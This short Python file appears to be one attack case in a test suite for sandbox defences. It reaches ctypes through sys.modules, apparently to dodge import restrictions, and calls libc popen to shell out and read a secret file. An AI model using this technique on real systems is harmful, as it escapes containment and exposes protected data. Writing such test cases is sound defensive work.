# A2: has a shell read a file
# Without layers: succeeds
import sys


def attack(facts):
    ctypes = sys.modules["ctypes"]
    libc, text = ctypes.CDLL(None), ctypes.create_string_buffer(100)
    libc.popen.restype = ctypes.c_void_p
    stream = libc.popen(f"cat '{facts['secret_file']}'".encode(), b"r")
    if stream:
        libc.fgets(text, 100, ctypes.c_void_p(stream))
        libc.pclose(ctypes.c_void_p(stream))
    return text.value.decode()
